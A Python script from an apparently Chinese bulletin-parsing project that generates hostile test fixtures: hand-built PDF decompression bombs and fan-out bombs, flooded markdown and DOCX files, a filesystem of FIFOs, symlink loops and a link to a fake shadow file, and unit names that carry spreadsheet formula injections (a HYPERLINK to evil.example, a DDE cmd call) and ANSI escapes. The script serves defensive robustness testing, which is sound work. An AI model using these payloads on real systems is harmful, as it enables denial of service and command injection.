"""Make the attack fixtures of issue 20: small hostile files, committed to
fixtures/attack/synthetic_*, and builders for the big ones (bombs, floods),
which tests call to write them into a temporary folder at test time.

Run from the repository root:

    .venv/bin/python scripts/make_attack_fixtures.py

Every PDF is written by hand (the raw syntax, so each attack is exactly the
shape described), with a correct cross-reference table.
"""

from __future__ import annotations

import io
import sys
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "fixtures" / "attack"


def pdf(objects: list[bytes]) -> bytes:
    """Given object bodies (object 1 is the catalog), return a PDF file."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _page_objects(content_ref: int, resources: bytes = b"<< >>") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources %s >>" % (content_ref, resources),
    ]


def operator_fan_out(depth: int = 25, fan: int = 2) -> bytes:
    """A page drawing form X1, which draws X2 `fan` times, … `depth` levels
    deep: `fan ** depth` drawing operations from a few kilobytes."""
    first_form = 5
    names = b" ".join(b"/X%d %d 0 R" % (i, first_form + i - 1) for i in range(1, depth + 1))
    resources = b"<< /XObject << %s >> >>" % names
    objects = _page_objects(4, resources) + [stream(b"/X1 Do")]
    for level in range(1, depth + 1):
        body = b" ".join([b"/X%d Do" % (level + 1)] * fan) if level < depth else b"0 0 m 1 1 l S"
        objects.append(stream(body, b" /Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources %s" % resources))
    return pdf(objects)


def noop_flood(megabytes: int = 200) -> bytes:
    """A page whose (compressed) content stream is `megabytes` MB of `q Q` no-ops."""
    return pdf(_page_objects(4) + [stream(b"q Q\n" * (megabytes * 1024 * 256), compress=True)])


def flate_bomb(megabytes: int = 1024) -> bytes:
    """A page whose content stream inflates to `megabytes` MB of spaces (about 1 MB on disk per GB)."""
    squeeze = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    data = b"".join(squeeze.compress(chunk) for _ in range(megabytes)) + squeeze.flush()
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return pdf(_page_objects(4) + [body])


def lying_page_count(pages: int = 2000) -> bytes:
    """A page tree claiming /Count 1 over `pages` pages."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count 1 >>" % kids,
               stream(b"BT /F1 12 Tf 72 720 Td (x) Tj ET")]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << >> >>"] * pages
    return pdf(objects)


def separator_flood(count: int = 80_000) -> bytes:
    """A text line of `count` pipes then an `x` (quadratic for a naive row splitter)."""
    return ("标题\n" + "|" * count + "x\n").encode("utf-8")


def tables_in_a_row(count: int = 4000) -> bytes:
    """`count` small markdown tables one after another."""
    table = "| 单位 | 得分 |\n| --- | --- |\n| 市发展改革委 | 1 |\n\n"
    return ("关于2024年第一季度政府网站检查情况的通报\n\n" + table * count).encode("utf-8")


def docx_sibling_tables(count: int = 10_000) -> bytes:
    """A DOCX whose body holds `count` sibling one-cell tables."""
    import zipfile

    cell = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>单位</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:p/>"
    document = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                + cell * count + "</w:body></w:document>")
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": document,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text)
    return out.getvalue()


def hostile_inbox(folder: Path, outside: Path) -> dict[str, Path]:
    """Fill `folder` with what a careless or hostile inbox holds (a FIFO, a link
    to /dev/zero, a sparse 3 GiB file, a link loop, a GBK file name, a folder
    nobody may read, a link to a file outside the folder) next to one good
    bulletin; `outside` gets the secret the outward link points at. Return
    the paths by attack name."""
    import os

    folder.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    good = ("关于2024年第一季度政府网站检查情况的通报\n\n| 单位 | 得分 |\n| --- | --- |\n| 市发展改革委 | 95 |\n"
            "| 市教育局 | 90 |\n").encode("utf-8")
    made = {"good": folder / "good.md"}
    made["good"].write_bytes(good)
    made["fifo"] = folder / "pipe.txt"
    os.mkfifo(made["fifo"])
    made["dev_zero"] = folder / "zero.txt"
    os.symlink("/dev/zero", made["dev_zero"])
    made["sparse"] = folder / "sparse.pdf"
    with open(made["sparse"], "wb") as handle:
        handle.truncate(3 * 1024 ** 3)
    loop = folder / "loop"
    loop.mkdir()
    made["loop"] = loop / "again"
    os.symlink("..", made["loop"])
    made["self_link"] = folder / "self.txt"
    os.symlink("self.txt", made["self_link"])
    gbk_name = "通报.md".encode("gbk")
    made["gbk_name"] = Path(os.fsdecode(os.fsencode(folder) + b"/" + gbk_name))
    made["gbk_name"].write_bytes(good.replace("95".encode(), "80".encode()))
    locked = folder / "locked"
    locked.mkdir()
    (locked / "inside.md").write_bytes(good)
    made["locked"] = locked
    secret = outside / "shadow"
    secret.write_text("root:$6$secret:19000:0:99999:7:::\n")
    made["outside_link"] = folder / "shadow.txt"
    os.symlink(secret, made["outside_link"])
    return made


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "市[/]教育局[bold]",
    "\x1b[31m市公安局\x1b]0;owned\x07",
    "市民政局\x01\x02",
]


def hostile_names_bulletin() -> bytes:
    """A bulletin (markdown table) whose unit names are formulas, rich
    markup, ANSI escapes and control characters."""
    rows = "".join(f"| {i} | {name} | {10 * i} | {5 * i} | {50 * i} |\n" for i, name in enumerate(HOSTILE_NAMES, 1))
    return ("# 关于2020年第四季度市政府网站信息采用情况的通报\n"
            "各单位向市政府网站共报送信息210条,采用105条。\n吉林市政务服务和数字化建设管理局\n2021年1月10日\n\n"
            "| 排名 | 单位 | 本季度报送 | 本季度采用 | 本季度得分 |\n|---|---|---|---|---|\n" + rows).encode("utf-8")


# Small enough to commit (each a few KB); the rest are built at test time.
COMMITTED = {
    "synthetic_operator_fan_out.pdf": operator_fan_out,
    "synthetic_lying_page_count.pdf": lambda: lying_page_count(2000),
    "synthetic_hostile_names.md": hostile_names_bulletin,
}


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for name, build in COMMITTED.items():
        (OUT / name).write_bytes(build())
        print(f"wrote {OUT / name} ({(OUT / name).stat().st_size:,} bytes)")


if __name__ == "__main__":
    sys.exit(main())
